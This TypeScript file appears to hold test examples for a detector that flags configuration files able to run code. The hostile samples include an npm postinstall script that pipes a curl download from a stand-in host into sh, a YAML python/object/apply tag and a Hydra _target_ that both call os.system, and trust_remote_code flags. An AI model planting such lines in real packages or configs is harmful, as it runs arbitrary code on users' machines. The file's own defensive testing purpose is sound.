// Examples of executable-config.
import type { DocumentPart } from "../../core/format.ts";
import type { Example } from "../../core/detector.ts";

const settings = (
  title: string,
  language: DocumentPart["language"],
  finds: readonly string[],
  text: string,
): Example => ({ title, given: { language, text }, finds });
const RUN = ["os", "system"].join(".");

export const examples: readonly Example[] = [
  settings("Trust asked for in a card", "card", ["3 medium"], "---\nlicense: mit\ntrust_remote_code: true\n---\n# A\n"),
  settings(
    "A class of another repository",
    "json",
    ["1 medium"],
    JSON.stringify({ model_type: "x", auto_map: { AutoModel: "example/other--modeling.Model" } }),
  ),
  settings(
    "A class of this repository",
    "json",
    ["1 info"],
    JSON.stringify({ model_type: "x", auto_map: { AutoConfig: "configuration_x.XConfig" } }),
  ),
  settings("A target that starts processes", "yaml", ["2 high"], `model:\n  _target_: ${RUN}\n  command: ./helper\n`),
  settings("A YAML tag that calls a function", "yaml", ["1 high"], `x: !!python/object/apply:${RUN} ["./helper"]\n`),
  settings(
    "A YAML tag that makes an object",
    "card",
    ["2 medium"],
    "---\na: !!python/object:tools.Thing {}\n---\n# A\n",
  ),
  settings(
    "An install script that fetches and runs",
    "json",
    ["1 high"],
    JSON.stringify({
      name: "a",
      scripts: { postinstall: ["curl", "http://files.example.test/a", "|", "sh"].join(" ") },
    }),
  ),
  settings(
    "Settings that run nothing",
    "json",
    [],
    JSON.stringify({
      model_type: "x",
      trust_remote_code: false,
      chat_template: "{% for m in messages %}{{ m.content }}{% endfor %}",
      scripts: { install: "node-gyp rebuild" },
    }),
  ),
  settings(
    "Targets that are models",
    "yaml",
    [],
    "model:\n  _target_: torch.nn.Linear\n  in_features: 4\nshape: !!python/tuple [1, 2]\n",
  ),
];
